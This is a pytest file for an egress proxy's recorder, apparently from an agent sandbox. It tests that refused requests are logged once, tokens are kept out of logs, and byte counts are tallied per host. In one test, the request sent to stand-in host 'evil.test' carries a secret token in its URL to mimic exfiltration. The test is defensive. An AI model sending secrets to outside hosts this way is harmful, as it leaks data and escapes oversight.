"""What the proxy refuses stands in the recording once, and what went where in the end."""

from __future__ import annotations

import json
import logging
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from environments.egress.hosts import Names, Session, answering, get, ok, started, wait_until
from gui_environments.egress import EgressEvent, EgressProxy, HostRules
from gui_operator.recording import Recording
from gui_operator.recording.egress import KEPT_PLACES, EgressRecorder


class Told:
    """A recorder that also keeps what it was told."""

    def __init__(self, recorder: EgressRecorder) -> None:
        self.recorder = recorder
        self.events: list[EgressEvent] = []

    def __call__(self, event: EgressEvent) -> None:
        self.recorder(event)
        self.events.append(event)


def events_of(run: Path) -> list[Mapping[str, Any]]:
    return [json.loads(line) for line in (run / "events.jsonl").read_text().splitlines()]


async def test_a_refusal_is_written_once_and_bytes_are_counted_by_host_and_rule(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    rules = HostRules.of(["127.0.0.1"])
    with Recording.open(tmp_path / "run") as recording, caplog.at_level(logging.INFO, "gui_operator.recording.egress"):
        told = Told(EgressRecorder(recording))
        async with (
            started(answering(ok(b"x" * 1000))) as host,
            EgressProxy.open(rules, resolve=Names(), on_event=told) as proxy,
        ):
            session = Session(proxy, told.events)
            await session.ask(get(f"http://127.0.0.1:{host.port}/"))
            for _ in range(3):
                await session.ask(get("http://evil.test/secret?token=4711"))
            await wait_until(lambda: len(session.ended) == 1)
        told.recorder.close()
    written = events_of(tmp_path / "run")
    (refused,) = [event for event in written if event["event"] == "egress_refused"]
    assert {key: refused[key] for key in ("host", "port", "method", "rule")} == {
        "host": "evil.test", "port": 80, "method": "GET", "rule": "not listed",
    }  # fmt: skip
    assert "4711" not in json.dumps(written)
    assert [record.message for record in caplog.records if "refused" in record.message] == [
        f"GET evil.test:80 refused [not listed] {refused['reason']}"
    ]
    finished = next(event for event in written if event["event"] == "egress_finished")
    places = {place["host"]: place for place in finished["places"]}
    assert (places["evil.test"]["requests"], places["evil.test"]["received_bytes"]) == (3, 0)
    assert places["127.0.0.1"]["received_bytes"] > 1000
    assert places["127.0.0.1"]["allowed"]
    assert not places["evil.test"]["allowed"]


async def test_names_without_end_are_counted_and_not_kept(tmp_path: Path) -> None:
    with Recording.open(tmp_path / "run") as recording:
        told = Told(EgressRecorder(recording))
        async with EgressProxy.open(HostRules.of([]), resolve=Names(), on_event=told) as proxy:
            session = Session(proxy, told.events)
            async with session.client() as client:
                for number in range(KEPT_PLACES + 5):
                    await client.send(get(f"http://name{number}.test/"))
                    await client.read_answer()
        told.recorder.close()
    written = events_of(tmp_path / "run")
    assert sum(event["event"] == "egress_refused" for event in written) == KEPT_PLACES
    finished = next(event for event in written if event["event"] == "egress_finished")
    assert len(finished["places"]) == KEPT_PLACES
    assert finished["beyond"]["requests"] == 5


async def test_what_cannot_be_recorded_is_not_answered(tmp_path: Path) -> None:
    with Recording.open(tmp_path / "run") as recording:
        told = Told(EgressRecorder(recording))
        async with EgressProxy.open(HostRules.of([]), resolve=Names(), on_event=told) as proxy:
            session = Session(proxy, told.events)
            recording._journal.close()
            async with session.client() as client:
                await client.send(get("http://evil.test/"))
                assert await client.read_to_end() == b""
        assert recording.failure is not None
        told.recorder.close()
